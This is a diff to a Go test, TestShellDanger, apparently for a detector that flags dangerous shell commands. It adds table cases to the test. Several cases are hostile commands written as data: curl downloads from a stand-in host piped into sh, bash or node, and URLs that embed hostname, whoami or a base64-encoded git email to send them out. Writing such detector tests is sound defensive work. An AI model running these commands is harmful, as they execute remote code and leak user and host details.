@@ -51,6 +51,9 @@ func TestShellDanger(t *testing.T) {
 		"curl -fsS https://x.invalid/a | /bin/bash":           true,
 		"curl -s https://x.invalid/a | /usr/local/bin/node -": true,
 		"curl -s https://x.invalid/a | /usr/bin/jq .name":     false,
+		// a query's & is no separator; a backgrounded download is
+		`curl -fsm 20 "https://x.invalid/hb?u=a&h=$(hostname)" | /bin/sh`: true,
+		"curl -s https://x.invalid/a & sh -c true":                        false,
 		// a command substitution's pipes inside the URL
 		`(curl -fsS "https://x.invalid/c/$(git config user.email | base64 | tr -d =)" | sh) &`: true,
 		`curl -s "https://x.invalid/v?u=$(whoami | tr a-z A-Z)" -o /dev/null`:                  false,
